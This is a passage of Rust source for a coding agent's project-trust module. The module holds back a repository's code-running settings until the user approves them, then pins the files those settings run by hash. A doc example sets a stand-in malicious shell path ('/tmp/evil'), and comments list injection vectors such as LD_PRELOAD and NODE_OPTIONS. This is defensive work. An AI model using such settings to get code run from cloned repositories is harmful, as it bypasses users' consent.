//! Project trust: whether a project's own settings may run code.
//!
//! A cloned repository is written by someone else. Its `.pi/settings.json`
//! may hold settings that start programs ([`RUNS_CODE_KEYS`]: MCP servers,
//! the shell and its prefix, and every later key of that kind); those would
//! run outside the sandbox, before any permission rule sees them. It may
//! also hold settings that would weaken the user's own setup
//! ([`WEAKENS_USER_KEYS`]: the extensions' timeouts). So these are held
//! back ([`Settings::held_back`]) until the user trusts the project:
//!
//! - explicitly, with `coding-agent trust [DIR]`, or by answering the
//!   terminal question of an interactive run;
//! - never implicitly: print, JSON, RPC and MCP modes ask nothing and leave
//!   the settings out, with one warning naming the file and the keys.
//!
//! A trust record is kept in the user's agent directory
//! (`trusted-projects.json`, mode 0600), keyed by the project's canonical
//! path, and it holds the very values the user approved. If the project's
//! code-running settings change afterwards (a sandboxed command may write
//! `.pi/settings.json` when the directory did not exist yet), they are held
//! back again until the user trusts the new values: trust is given to what
//! the user saw, not to whatever the file says later.
//!
//! The record also pins the files those values run ([`pins`]), by content:
//! every program a project starts (MCP servers, extensions, `shellPath`)
//! starts in the project's directory, so the names resolve to the files
//! pinned. Anything that cannot be pinned completely and exactly (a command
//! line whose files depend on shell expansion, a FIFO, a name that cannot
//! be resolved, more than the budgets [`MAX_PINNED_FILES`] and
//! [`MAX_PINNED_BYTES`]) keeps the project from being trusted for good: it
//! is asked about each time, the question and the warning naming what
//! could not be pinned ([`TrustState::CannotPin`]). A link inside the
//! project to a file outside it is pinned by its target, which the question
//! shows. Records written before pins had this format (`pinFormat` 2) are
//! asked about again, saying why ([`TrustState::Outdated`]).
//!
//! ```
//! use coding_agent::Settings;
//! use coding_agent::trust::{TrustState, TrustStore};
//! use serde_json::json;
//!
//! let dir = tempfile::tempdir().unwrap();
//! let store = TrustStore::at(dir.path().join("trusted-projects.json"));
//! let project = dir.path();
//! let mut settings = Settings::merged(
//!     json!({"shellPath": "/bin/bash"}),
//!     json!({"shellPath": "/tmp/evil", "bashTimeoutSeconds": 5}),
//! );
//! // Held back: the project's shell is not used, its other settings are.
//! assert_eq!(settings.shell_path().as_deref(), Some("/bin/bash"));
//! assert_eq!(settings.bash_timeout_seconds(), Some(5.0));
//! assert_eq!(store.state(project, settings.held_back()).unwrap(), TrustState::NotTrusted);
//!
//! store.trust(project, settings.held_back()).unwrap();
//! assert_eq!(store.state(project, settings.held_back()).unwrap(), TrustState::Trusted);
//! settings.apply_held_back();
//! assert_eq!(settings.shell_path().as_deref(), Some("/tmp/evil"));
//! ```

use std::io::{self, Write};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use serde_json::{Map, Value, json};

use crate::Settings;
use crate::project_file::read_regular_file;
use agent_tool::path::canonical;

pub use crate::settings::{RUNS_CODE_KEYS, WEAKENS_USER_KEYS};

/// The trust file's name inside the agent directory.
pub const TRUST_FILE_NAME: &str = "trusted-projects.json";

/// Whether a project's held-back settings may be applied.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TrustState {
    /// The user trusted the project with exactly these values, and the
    /// files they run hold what they held then.
    Trusted,
    /// No record for the project.
    NotTrusted,
    /// The user trusted the project, but its code-running settings, or the
    /// files they run, have changed since.
    Changed,
    /// Trusted by an earlier version that pinned fewer files: asked again.
    Outdated,
    /// Some of what the values run cannot be pinned (see [`Pins`]): never
    /// trusted for good, asked about each time. One line per thing.
    CannotPin(Vec<String>),
}

/// The trust records could not be read or written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// The file could not be read, written or parsed.
    #[error("{path}: {message}")]
    File {
        /// The trust file.
        path: PathBuf,
        /// What went wrong.
        message: String,
    },
    /// Some of what the project's values run cannot be pinned, so the
    /// trust is not recorded (see [`Pins::unpinnable`]).
    #[error("{project}: not recorded as trusted: {}", what.join("; "))]
    CannotPin {
        /// The project.
        project: PathBuf,
        /// What cannot be pinned, one line each.
        what: Vec<String>,
    },
    /// The file is not safe to believe: owned by another user, or writable
    /// by others.
    #[error(
        "{path}: not trusted as a record of trust ({why}); fix its owner and mode (0600) or remove it"
    )]
    Unsafe {
        /// The trust file.
        path: PathBuf,
        /// Owner or mode problem.
        why: String,
    },
}

/// The trust records: one JSON file in the user's agent directory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The records in the user's agent directory
    /// ([`agent_dir`](crate::settings::agent_dir)); `None` without a home.
    pub fn in_agent_dir() -> Option<Self> {
        crate::settings::agent_dir().map(|d| Self::at(d.join(TRUST_FILE_NAME)))
    }

    /// The records in `path`.
    pub fn at(path: impl Into<PathBuf>) -> Self {
        TrustStore { path: path.into() }
    }

    /// The file holding the records.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Whether `project` is trusted with `held_back` (the project's
    /// code-running values, [`Settings::held_back`]), the files they run
    /// pinned afresh ([`pins`]).
    ///
    /// # Errors
    /// An unreadable, malformed or unsafe trust file (the caller treats the
    /// project as not trusted).
    pub fn state(
        &self,
        project: &Path,
        held_back: &Map<String, Value>,
    ) -> Result<TrustState, TrustError> {
        self.state_with(project, held_back, &pins(project, held_back))
    }

    /// [`state`](Self::state) with the pins already taken.
    fn state_with(
        &self,
        project: &Path,
        held_back: &Map<String, Value>,
        pins: &Pins,
    ) -> Result<TrustState, TrustError> {
        if !pins.unpinnable.is_empty() {
            // Whatever the record says: a record cannot cover it.
            return Ok(TrustState::CannotPin(pins.unpinnable.clone()));
        }
        let records = self.load()?;
        let Some(record) = records.get(&project_key(project)) else {
            return Ok(TrustState::NotTrusted);
        };
        if record.get("settings").and_then(Value::as_object) != Some(held_back) {
            return Ok(TrustState::Changed);
        }
        if record.get("pinFormat").and_then(Value::as_u64) != Some(PIN_FORMAT) {
            return Ok(TrustState::Outdated);
        }
        // The same values, but the files they run may have been rewritten
        // (by a sandboxed command, say).
        Ok(match record.get("files") {
            Some(Value::Object(files)) if *files == pins.files => TrustState::Trusted,
            _ => TrustState::Changed,
        })
    }

    /// Records that the user trusts `project` with `held_back`, and the
    /// files they run as they are now.
    ///
    /// # Errors
    /// The file cannot be read or written; [`TrustError::CannotPin`] (and
    /// nothing recorded) when some of what the values run cannot be pinned.
    pub fn trust(&self, project: &Path, held_back: &Map<String, Value>) -> Result<(), TrustError> {
        self.trust_pinned(project, held_back, &pins(project, held_back))
    }

    /// [`trust`](Self::trust) with the pins already taken ([`pins`]), so
    /// that what was shown is what is recorded.
    ///
    /// # Errors
    /// As [`trust`](Self::trust).
    pub fn trust_pinned(
        &self,
        project: &Path,
        held_back: &Map<String, Value>,
        pins: &Pins,
    ) -> Result<(), TrustError> {
        if !pins.unpinnable.is_empty() {
            return Err(TrustError::CannotPin {
                project: project.to_path_buf(),
                what: pins.unpinnable.clone(),
            });
        }
        let mut records = self.load()?;
        records.insert(
            project_key(project),
            json!({
                "trustedAt": agent_ai::now_millis(),
                "settings": held_back,
                "pinFormat": PIN_FORMAT,
                "files": pins.files,
            }),
        );
        self.save(records)
    }

    /// Removes the record of `project`; whether there was one.
    ///
    /// # Errors
    /// The file cannot be read or written.
    pub fn revoke(&self, project: &Path) -> Result<bool, TrustError> {
        let mut records = self.load()?;
        let removed = records.remove(&project_key(project)).is_some();
        if removed {
            self.save(records)?;
        }
        Ok(removed)
    }

    /// The trusted projects' paths.
    ///
    /// # Errors
    /// The file cannot be read.
    pub fn projects(&self) -> Result<Vec<String>, TrustError> {
        Ok(self.load()?.keys().cloned().collect())
    }

    fn error(&self, message: impl std::fmt::Display) -> TrustError {
        TrustError::File {
            path: self.path.clone(),
            message: message.to_string(),
        }
    }

    fn load(&self) -> Result<Map<String, Value>, TrustError> {
        match std::fs::symlink_metadata(&self.path) {
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Map::new()),
            Err(e) => return Err(self.error(e)),
            Ok(meta) => {
                let why = if !meta.file_type().is_file() {
                    Some("not a regular file".to_string())
                } else if meta.uid() != rustix::process::geteuid().as_raw() {
                    Some(format!("owned by uid {}", meta.uid()))
                } else if meta.mode() & 0o022 != 0 {
                    Some(format!(
                        "mode {:o} lets others write it",
                        meta.mode() & 0o777
                    ))
                } else {
                    None
                };
                if let Some(why) = why {
                    return Err(TrustError::Unsafe {
                        path: self.path.clone(),
                        why,
                    });
                }
            }
        }
        let text = read_regular_file(&self.path, crate::MAX_PROJECT_FILE_BYTES)
            .map_err(|e| self.error(e))?
            .unwrap_or_default();
        if text.trim().is_empty() {
            return Ok(Map::new());
        }
        let value: Value = serde_json::from_str(&text).map_err(|e| self.error(e))?;
        match value.get("projects") {
            None => Ok(Map::new()),
            Some(Value::Object(map)) => Ok(map.clone()),
            Some(_) => Err(self.error("`projects` must be an object")),
        }
    }

    fn save(&self, records: Map<String, Value>) -> Result<(), TrustError> {
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir).map_err(|e| self.error(e))?;
        let text = serde_json::to_string_pretty(&json!({"version": 1, "projects": records}))
            .map_err(|e| self.error(e))?;
        // Written whole beside the file and renamed over it: a crash leaves
        // the old records or the new ones, never half of either.
        let temp = dir.join(format!(
            ".{TRUST_FILE_NAME}.{}.{}",
            std::process::id(),
            agent_ai::now_millis()
        ));
        let written = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .custom_flags(rustix::fs::OFlags::NOFOLLOW.bits() as i32)
            .open(&temp)
            .and_then(|mut file| {
                file.write_all(text.as_bytes())?;
                file.write_all(b"\n")?;
                file.sync_all()
            })
            .and_then(|()| std::fs::rename(&temp, &self.path));
        if let Err(e) = written {
            let _ = std::fs::remove_file(&temp);
            return Err(self.error(e));
        }
        Ok(())
    }
}

/// The most files (and directories, and names pinned as absent) one project
/// pins. Past it the project is not trusted: it is asked about each time,
/// naming this budget ([`Pins::unpinnable`]).
pub const MAX_PINNED_FILES: usize = 256;

/// The most bytes hashed for one project, all files together (the hashing
/// runs at every start). Past it, as past [`MAX_PINNED_FILES`].
pub const MAX_PINNED_BYTES: u64 = 256 << 20;

/// The record format of the pins: records of an earlier format (which
/// pinned less) are asked about again, saying so.
const PIN_FORMAT: u64 = 2;

/// What trust pins of a project's held-back values: every file they name
/// (a command, a script among the arguments, a file in `env`, a word of a
/// shell command line), by content.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct Pins {
    /// Canonical path → SHA-256 of the content, `absent`, or `directory`
    /// (whose entries are pinned too).
    pub files: Map<String, Value>,
    /// Links inside the project to something outside it, pinned by their
    /// target: (the link, relative to the project; the target).
    pub links_out: Vec<(String, PathBuf)>,
    /// What could not be pinned completely and exactly, one line each; any
    /// makes the project untrusted until asked again.
    pub unpinnable: Vec<String>,
}

/// The files `held_back` would run in `project`, pinned (see [`Pins`]).
///
/// Names are resolved the way the programs are started: against the project
/// (where every program starts), against a server's `cwd`, and (a bare
/// command) along `PATH` (the server's own `env.PATH` when it sets one).
/// `mcpServers` strings are pinned after the agent's `${VAR:-default}`
/// expansion, as the server will see them. A shell command line
/// (`shellCommandPrefix`, a shell server's arguments) is split into words;
/// one whose words depend on expansion (`$`, backticks, globs, `~`, braces,
/// backslashes) cannot be pinned. Files outside the project are the user's
/// and are not pinned, except through a link inside the project (pinned by
/// the target, and shown in the trust question). A FIFO, socket or device,
/// a name that cannot be resolved, and anything past the budgets
/// ([`MAX_PINNED_FILES`], [`MAX_PINNED_BYTES`]) cannot be pinned.
pub fn pins(project: &Path, held_back: &Map<String, Value>) -> Pins {
    let root = std::fs::canonicalize(project).unwrap_or_else(|_| project.to_path_buf());
    let process_path: Vec<PathBuf> = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).collect())
        .unwrap_or_default();
    // The repository holding the project is written by the same hands:
    // `../run.sh` from a monorepo's subdirectory is pinned like `./run.sh`.
    let boundary = root
        .ancestors()
        .find(|dir| std::fs::symlink_metadata(dir.join(".git")).is_ok())
        .unwrap_or(&root)
        .to_path_buf();
    // A relative entry of the agent's own PATH is looked up from where each
    // program starts, not from the agent's own directory.
    let process_path = relative_to(&process_path, std::slice::from_ref(&root));
    let mut pinner = Pinner {
        boundary,
        root: root.clone(),
        pins: Pins::default(),
        bytes: 0,
        over_budget: false,
    };
    for (key, value) in held_back {
        match (key.as_str(), value) {
            ("mcpServers", Value::Object(servers)) => {
                for (name, server) in servers {
                    pinner.server(name, server, &process_path);
                }
            }
            ("shellCommandPrefix", Value::String(line)) => {
                pinner.shell_line(
                    line,
                    "shellCommandPrefix",
                    std::slice::from_ref(&root),
                    &process_path,
                );
            }
            _ => {
                let mut texts = Vec::new();
                strings(value, &mut texts);
                for text in texts {
                    pinner.word(text, std::slice::from_ref(&root), &process_path);
                }
            }
        }
    }
    pinner.pins
}

/// Whether an argument reads like a shell command line rather than one
/// word: a blank or a character the shell treats specially.
fn reads_like_a_line(arg: &str) -> bool {
    arg.chars()
        .any(|c| c.is_whitespace() || ";&|()<>$`\\*?[{~\"'".contains(c))
}

/// Interpreters that load modules beside their script.
fn is_interpreter(word: &str) -> bool {
    let name = Path::new(word)
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    name.starts_with("python")
        || matches!(
            name.as_str(),
            "node" | "nodejs" | "deno" | "bun" | "ruby" | "perl" | "php" | "tsx" | "ts-node"
        )
}

/// Files an interpreter may load as code.
const SOURCE_SUFFIXES: [&str; 12] = [
    ".py", ".pth", ".js", ".mjs", ".cjs", ".ts", ".mts", ".json", ".rb", ".pl", ".pm", ".php",
];

/// What an interpreter adds to a module name it is given.
const MODULE_SUFFIXES: [&str; 8] = [".js", ".mjs", ".cjs", ".ts", ".py", ".sh", ".rb", ".pl"];
/// What an interpreter runs for a directory it is given.
const MODULE_INDEXES: [&str; 3] = ["index.js", "__main__.py", "package.json"];

/// Programs that run what a file in their working directory says, and
/// those files: pinned wherever the program is named (a command, an
/// argument, a word of a command line).
const PROJECT_FILES_READ_BY: &[(&str, &[&str])] = &[
    ("make", &["Makefile", "makefile", "GNUmakefile"]),
    ("gmake", &["Makefile", "makefile", "GNUmakefile"]),
    ("npm", &["package.json", ".npmrc"]),
    ("npx", &["package.json", ".npmrc"]),
    ("yarn", &["package.json", ".yarnrc", ".yarnrc.yml"]),
    ("pnpm", &["package.json", ".npmrc"]),
    ("bun", &["package.json", "bunfig.toml"]),
    ("bunx", &["package.json", "bunfig.toml"]),
    ("node", &["package.json"]),
    ("deno", &["deno.json", "deno.jsonc"]),
    (
        "cargo",
        &[
            "Cargo.toml",
            "build.rs",
            ".cargo/config.toml",
            ".cargo/config",
        ],
    ),
    ("uv", &["pyproject.toml", "uv.toml"]),
    ("uvx", &["pyproject.toml", "uv.toml"]),
    ("poetry", &["pyproject.toml"]),
    ("pipenv", &["Pipfile"]),
    ("just", &["justfile", "Justfile", ".justfile"]),
    ("rake", &["Rakefile"]),
    ("bundle", &["Gemfile"]),
];

/// The interpreter words of the `#!` line of the file at `path` (`env`'s
/// program too), or none.
fn shebang_words(path: &Path) -> Vec<String> {
    use std::io::Read;
    let Ok(Some(file)) =
        agent_tool::regular_file::open_regular(path, agent_tool::regular_file::Links::Refuse)
    else {
        return Vec::new();
    };
    let mut head = Vec::with_capacity(256);
    if file.take(256).read_to_end(&mut head).is_err() || !head.starts_with(b"#!") {
        return Vec::new();
    }
    let line = head[2..].split(|&b| b == b'\n').next().unwrap_or_default();
    String::from_utf8_lossy(line)
        .split_whitespace()
        .map(str::to_string)
        .collect()
}

/// `path`'s entries, a relative one taken from each of `bases`.
fn relative_to(path: &[PathBuf], bases: &[PathBuf]) -> Vec<PathBuf> {
    path.iter()
        .flat_map(|d| {
            if d.is_relative() {
                bases.iter().map(|b| b.join(d)).collect()
            } else {
                vec![d.clone()]
            }
        })
        .collect()
}

fn strings<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// Shells whose non-option arguments are command lines (`sh -c '...'`) or
/// scripts.
const SHELLS: [&str; 9] = [
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox",
];

struct Pinner {
    /// The project, or the repository holding it: what it names inside
    /// this is pinned, what lies outside is the user's.
    boundary: PathBuf,
    /// The project: where its programs start.
    root: PathBuf,
    pins: Pins,
    bytes: u64,
    over_budget: bool,
}

impl Pinner {
    fn refuse(&mut self, what: String) {
        if !self.pins.unpinnable.contains(&what) {
            self.pins.unpinnable.push(what);
        }
    }

    /// One `mcpServers` entry, as `agent_mcp` will start it.
    fn server(&mut self, name: &str, server: &Value, process_path: &[PathBuf]) {
        if server.get("url").is_some() {
            // An HTTP server: nothing local is started.
            return;
        }
        let expand = |v: &Value| v.as_str().and_then(|s| crate::env_vars::expand(s).ok());
        let mut bases = vec![self.root.clone()];
        if let Some(cwd) = server.get("cwd").and_then(expand) {
            let dir = agent_tool::path::normalize_path(&self.root.join(&cwd));
            if !dir.starts_with(&self.boundary) {
                self.refuse(format!(
                    "mcpServers.{name}.cwd {cwd:?} leads out of the project, so what runs there is not pinned"
                ));
            }
            bases.push(dir);
        }
        let env: Vec<(String, String)> = server
            .get("env")
            .and_then(Value::as_object)
            .map(|vars| {
                vars.iter()
                    .filter_map(|(k, v)| Some((k.clone(), expand(v)?)))
                    .collect()
            })
            .unwrap_or_default();
        // A server's own PATH is where its bare command is looked up.
        let lookup: Vec<PathBuf> = match env.iter().find(|(k, _)| k == "PATH") {
            Some((_, path)) => std::env::split_paths(path)
                .flat_map(|d| bases.iter().map(move |b| b.join(&d)))
                .collect(),
            None => relative_to(process_path, &bases),
        };
        let command = server.get("command").and_then(expand).unwrap_or_default();
        self.word(&command, &bases, &lookup);
        let shell = SHELLS.contains(
            &Path::new(&command)
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default()
                .as_str(),
        );
        let args: Vec<String> = server
            .get("args")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(expand)
            .collect();
        // An interpreter loads the modules beside its script (Python's
        // `sys.path[0]`, Node's relative `require`, `-m` from the start
        // directory): the source files there are pinned with the script,
        // or the project cannot be pinned (the budget).
        let words = std::iter::once(&command).chain(args.iter());
        if let Some(at) = words.clone().position(|w| is_interpreter(w)) {
            for arg in words.skip(at + 1) {
                if arg == "-m" {
                    for base in bases.clone() {
                        self.source_tree(&base, 0);
                    }
                    continue;
                }
                for base in bases.clone() {
                    let script = base.join(arg);
                    if script.is_file()
                        && let Some(dir) = script.parent()
                    {
                        self.source_tree(dir, 0);
                    }
                }
            }
        }
        for arg in args {
            // Through a wrapper (`env sh -c '...'`, `nice bash -c`) a shell
            // line is an argument of some other program: anything that reads
            // like one is taken as one.
            if (shell && !arg.starts_with('-')) || reads_like_a_line(&arg) {
                // A command line or a script: the shell expands it.
                self.shell_line(&arg, &format!("mcpServers.{name}.args"), &bases, &lookup);
            } else {
                self.word(&arg, &bases, &lookup);
            }
        }
        // Variables name files too (`BASH_ENV`, `LD_PRELOAD`,
        // `NODE_OPTIONS=--require ./x.js`, `PYTHONPATH`).
        for (_, value) in &env {
            for piece in value.split(|c: char| c.is_whitespace() || c == ':') {
                self.word(piece, &bases, &lookup);
            }
        }
    }

    /// A command line run by a shell: its words pinned, or refused when
    /// they depend on what the shell expands.
    fn shell_line(&mut self, line: &str, key: &str, bases: &[PathBuf], lookup: &[PathBuf]) {
        self.shell_line_within(line, key, bases, lookup, 0);
    }

    /// [`shell_line`](Self::shell_line), `depth` lines deep: a quoted word
    /// that reads like a line (`sh -c ". ./x"`, `eval 'source x'`) is a
    /// line of its own.
    fn shell_line_within(
        &mut self,
        line: &str,
        key: &str,
        bases: &[PathBuf],
        lookup: &[PathBuf],
        depth: usize,
    ) {
        const MAX_NESTING: usize = 4;
        match shell_words(line) {
            Ok(words)
                if words.iter().any(|w| {
                    matches!(
                        w.as_str(),
                        "cd" | "pushd" | "popd" | "source" | "." | "eval"
                    )
                }) =>
            {
                self.refuse(format!(
                    "{key} {line:?}: it changes directory, evaluates text or reads another file, so which files it runs is not fixed"
                ));
            }
            Ok(_) if depth >= MAX_NESTING => self.refuse(format!(
                "{key} {line:?}: command lines nested more than {MAX_NESTING} deep"
            )),
            Ok(words) => {
                for word in words {
                    if reads_like_a_line(&word) {
                        self.shell_line_within(&word, key, bases, lookup, depth + 1);
                    } else {
                        self.word(&word, bases, lookup);
                    }
                }
            }
            Err(c) => self.refuse(format!(
                "{key} {line:?}: the shell expands `{c}`, so which files it runs is not fixed"
            )),
        }
    }

    /// One word that may name a file: itself, and what follows an `=`
    /// (`--config=./x`, `VAR=./y`).
    fn word(&mut self, word: &str, bases: &[PathBuf], lookup: &[PathBuf]) {
        let mut texts = vec![word];
        if let Some((_, value)) = word.split_once('=') {
            texts.push(value);
        }
        for text in texts {
            // Longer than PATH_MAX: no file has that name.
            if text.is_empty() || text.len() > 4096 {
                continue;
            }
            if ["/proc/", "/dev/fd/", "/dev/stdin"]
                .iter()
                .any(|p| text.starts_with(p))
            {
                self.refuse(format!(
                    "{text}: names a file through /proc or /dev/fd, which depends on the process that opens it"
                ));
                continue;
            }
            for (program, files) in PROJECT_FILES_READ_BY {
                if Path::new(text).file_name() == Some(std::ffi::OsStr::new(program)) {
                    for file in *files {
                        for base in bases {
                            self.path(&base.join(file), false);
                        }
                    }
                }
            }
            let mut candidates: Vec<PathBuf> = bases.iter().map(|b| b.join(text)).collect();
            // A module name an interpreter completes (`node srv` runs
            // `srv.js`, `python3 -m srv` runs `srv.py`).
            let bare = Path::new(text)
                .file_name()
                .is_some_and(|n| !n.to_string_lossy().contains('.'));
            if bare && !text.starts_with('-') {
                for base in bases {
                    let named = base.join(text);
                    candidates.extend(MODULE_SUFFIXES.iter().map(|suffix| {
                        let mut with = named.clone().into_os_string();
                        with.push(suffix);
                        PathBuf::from(with)
                    }));
                    candidates.extend(MODULE_INDEXES.iter().map(|index| named.join(index)));
                }
            }
            let climbs = Path::new(text)
                .components()
                .any(|c| c == std::path::Component::ParentDir);
            if climbs
                && candidates
                    .iter()
                    .any(|c| !agent_tool::path::normalize_path(c).starts_with(&self.boundary))
            {
                self.refuse(format!(
                    "{text}: leads out of the project with `..`, so it cannot be pinned"
                ));
                continue;
            }
            if !text.contains('/') {
                candidates.extend(lookup.iter().map(|d| d.join(text)));
            }
            for candidate in candidates {
                self.path(&candidate, false);
            }
        }
    }

    /// Pins `candidate`: when it is in the project, or leads out of it
    /// through a link inside it, or (`reached`) was found in a pinned
    /// directory.
    fn path(&mut self, candidate: &Path, reached: bool) {
        if self.over_budget {
            return;
        }
        let lexical = agent_tool::path::normalize_path(candidate);
        let inside = |p: &Path| p.starts_with(&self.boundary) && p != self.boundary;
        let real = match std::fs::canonicalize(candidate) {
            Ok(real) => real,
            // Nothing there (a file on the way is no directory either).
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::NotFound | std::io::ErrorKind::NotADirectory
                ) =>
            {
                lexical.clone()
            }
            Err(e) => {
                if inside(&lexical) || reached {
                    self.refuse(format!("{}: {e}", self.shown(&lexical)));
                }
                return;
            }
        };
        if real == self.root || real == self.boundary {
            // The project itself (`.`): its files are not all programs.
            return;
        }
        if !inside(&real) {
            if !(inside(&lexical) || reached) {
                // The user's own files, outside the project.
                return;
            }
            if inside(&lexical) {
                let link = self.shown(&lexical);
                if !self.pins.links_out.iter().any(|(l, _)| *l == link) {
                    self.pins.links_out.push((link, real.clone()));
                }
            }
        }
        let key = real.display().to_string();
        if self.pins.files.contains_key(&key) {
            return;
        }
        if self.pins.files.values().filter(|v| *v != "absent").count() >= MAX_PINNED_FILES {
            self.over_budget = true;
            self.refuse(format!(
                "more than {MAX_PINNED_FILES} files to pin (the trust budget); {} and later ones are not pinned",
                self.shown(&lexical)
            ));
            return;
        }
        let meta = match std::fs::symlink_metadata(&real) {
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::NotFound | std::io::ErrorKind::NotADirectory
                ) =>
            {
                self.pins.files.insert(key, Value::from("absent"));
                return;
            }
            Err(e) => {
                self.refuse(format!("{}: {e}", self.shown(&lexical)));
                return;
            }
            Ok(m) => m,
        };
        if meta.is_dir() {
            self.pins.files.insert(key, Value::from("directory"));
            self.directory(&real);
            return;
        }
        match self.hash(&real) {
            Ok(digest) => {
                self.pins.files.insert(key, Value::from(digest));
                // A script runs its `#!` interpreter, which may be the
                // project's own (`#!./interp`): pinned too, from the
                // project, where the kernel looks for a relative one.
                for word in shebang_words(&real) {
                    let root = self.root.clone();
                    self.word(&word, std::slice::from_ref(&root), &[]);
                }
            }
            Err(why) => self.refuse(format!("{}: {why}", self.shown(&lexical))),
        }
    }

    /// The source files below `dir` (inside the project), pinned: what an
    /// interpreter started on a script there may import. Dot directories and
    /// installed packages (`node_modules`, virtual environments) are left
    /// out; past the budget the project cannot be pinned.
    fn source_tree(&mut self, dir: &Path, depth: usize) {
        const MAX_DEPTH: usize = 8;
        let real = std::fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf());
        if depth > MAX_DEPTH || self.over_budget || !real.starts_with(&self.boundary) {
            return;
        }
        let Ok(entries) = std::fs::read_dir(&real) else {
            return;
        };
        let mut entries: Vec<(PathBuf, std::fs::FileType)> = entries
            .flatten()
            .filter_map(|e| Some((e.path(), e.file_type().ok()?)))
            .collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        for (path, kind) in entries {
            let name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            if kind.is_dir() {
                if !name.starts_with('.')
                    && !matches!(
                        name.as_str(),
                        "node_modules" | "__pycache__" | "venv" | "site-packages" | "target"
                    )
                {
                    self.source_tree(&path, depth + 1);
                }
            } else if SOURCE_SUFFIXES.iter().any(|s| name.ends_with(s)) {
                self.path(&path, true);
            }
        }
    }

    /// A directory's entries, pinned in name order: a file added, removed
    /// or changed in it changes the pins.
    fn directory(&mut self, dir: &Path) {
        let entries = match std::fs::read_dir(dir) {
            Ok(entries) => entries,
            Err(e) => {
                self.refuse(format!("{}: {e}", self.shown(dir)));
                return;
            }
        };
        let mut names: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
        names.sort();
        for name in names {
            self.path(&name, true);
        }
    }

    /// The SHA-256 of the regular file at `real` (canonical: no link to
    /// follow), opened without blocking on a FIFO, within the byte budget.
    fn hash(&mut self, real: &Path) -> Result<String, String> {
        use sha2::Digest;
        use std::io::Read;
        let mut file = match agent_tool::regular_file::open_regular(
            real,
            agent_tool::regular_file::Links::Refuse,
        ) {
            Ok(Some(file)) => file,
            Ok(None) => return Ok("absent".into()),
            Err(e) => return Err(e.to_string()),
        };
        let len = file.metadata().map_err(|e| e.to_string())?.len();
        if self.bytes.saturating_add(len) > MAX_PINNED_BYTES {
            self.over_budget = true;
            return Err(format!(
                "more than {} MiB to pin (the trust budget)",
                MAX_PINNED_BYTES >> 20
            ));
        }
        let mut hasher = sha2::Sha256::new();
        let mut buf = vec![0u8; 1 << 16];
        // Read no more than was counted: a file growing now is hashed as it
        // was, and changes the pin at the next start.
        let mut left = len;
        while left > 0 {
            let want = buf.len().min(usize::try_from(left).unwrap_or(usize::MAX));
            match file.read(&mut buf[..want]) {
                Ok(0) => break,
                Ok(n) => {
                    hasher.update(&buf[..n]);
                    left -= n as u64;
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(e) => return Err(e.to_string()),
            }
        }
        self.bytes += len;
        Ok(hasher
            .finalize()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect())
    }

    /// `path` as the user reads it: relative to the project when inside.
    fn shown(&self, path: &Path) -> String {
        match path.strip_prefix(&self.root) {
            Ok(rel) => rel.display().to_string(),
            Err(_) => path.display().to_string(),
        }
    }
}

/// The words of a shell command line, or the first character that makes
/// the shell expand something (so its files are not fixed by the text):
/// `$` and backticks (unquoted or in double quotes), globs, `~`, braces and
/// backslashes (unquoted). Operators (`;|&()<>`) separate words.
fn shell_words(line: &str) -> Result<Vec<String>, char> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    for c in line.chars() {
        match quote {
            Some('\'') => {
                if c == '\'' {
                    quote = None;
                } else {
                    word.push(c);
                }
            }
            Some(_) => match c {
                '"' => quote = None,
                '$' | '`' | '\\' => return Err(c),
                _ => word.push(c),
            },
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    in_word = true;
                }
                '$' | '`' | '\\' | '*' | '?' | '[' | '{' | '~' => return Err(c),
                c if c.is_whitespace() || ";&|()<>".contains(c) => {
                    if in_word {
                        words.push(std::mem::take(&mut word));
                        in_word = false;
                    }
                }
                _ => {
                    word.push(c);
                    in_word = true;
                }
            },
        }
    }
    if in_word {
        words.push(word);
    }
    Ok(words)
}

/// A project's key in the records: its canonical path.
fn project_key(project: &Path) -> String {
    canonical(project).to_string_lossy().into_owned()
}

/// What [`resolve_project_trust`] did with the held-back settings.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TrustOutcome {
    /// The project holds no code-running settings.
    NothingHeldBack,
    /// Trusted (before, or by the answer just given): applied.
    Applied,
    /// Left out; the warning says why.
    Ignored {
        /// One line naming the file and the keys, for the user.
        warning: String,
    },
}

/// Applies the project's held-back settings if `store` trusts them with
/// their current values, else asks `ask` (a terminal question; `None` in
/// modes without one) and records a yes. The settings stay held back
/// otherwise, and the outcome carries the warning to show.
///
/// `project` is the directory whose `.pi/settings.json` was read.
pub fn resolve_project_trust(
    settings: &mut Settings,
    project: &Path,
